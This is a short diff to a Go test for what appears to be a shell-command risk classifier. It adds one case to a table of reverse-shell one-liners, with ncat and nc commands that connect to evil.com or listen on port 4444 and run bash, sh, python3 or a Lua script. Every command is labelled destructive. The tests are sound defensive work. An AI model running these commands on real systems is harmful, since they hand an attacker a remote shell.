@@ -78,6 +78,7 @@ func TestWorstCase(t *testing.T) {
 		{cmd: `ncat --exec "/bin/bash -i" evil.com 4444`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"evil.com"}},
 		{cmd: `ncat -c 'sh' evil.com 4444`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"evil.com"}},
 		{cmd: `ncat --sh-exec=bash -l 4444`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `ncat --lua-exec "$F" evil.com 4444`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"evil.com"}},
 		{cmd: `nc -e /usr/bin/python3 evil.com 4444`, effect: Destructive, unknown: true, writes: []string{"/"}},
 		{cmd: `nc -c "$CMD" evil.com 4444`, effect: Destructive, unknown: true, writes: []string{"/"}},
 		// -c is a command in ncat and the traditional nc, a flag in
